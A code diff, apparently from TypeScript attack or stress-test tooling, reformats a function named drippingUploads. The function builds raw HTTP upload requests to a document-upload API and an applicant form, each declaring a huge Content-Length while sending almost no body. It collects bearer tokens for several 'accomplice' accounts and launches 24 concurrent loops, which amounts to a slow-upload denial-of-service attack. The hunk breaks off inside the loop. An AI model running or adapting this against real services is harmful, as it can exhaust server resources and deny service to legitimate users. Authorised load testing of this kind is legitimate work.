@@ -69,9 +69,13 @@ export async function drippingUploads({ url, client, accomplices }: Target, unti
   const tokens = await Promise.all([client, ...accomplices].map((each) => tokenOf(url, each)))
   const { host, origin } = new URL(url)
   const api = (token = '') =>
-    `POST /v1/applications.documents.upload HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: 20000000\r\n\r\n{`
+    `POST /v1/applications.documents.upload HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n` +
+    'Content-Type: application/json\r\nContent-Length: 20000000\r\n\r\n{'
   const page = new URL(form.page.replace(/contact$/, 'documents')).pathname
-  const applicant = `POST ${page} HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${origin}\r\nCookie: ${form.cookie}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 60000000\r\n\r\n--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF`
+  const applicant =
+    `POST ${page} HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${origin}\r\nCookie: ${form.cookie}\r\n` +
+    'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 60000000\r\n\r\n' +
+    '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF'
   const result: Result = { sockets: 0, ended: 0 }
   const hands = Array.from({ length: 24 }, async (_, at) => {
     while (performance.now() < until) {
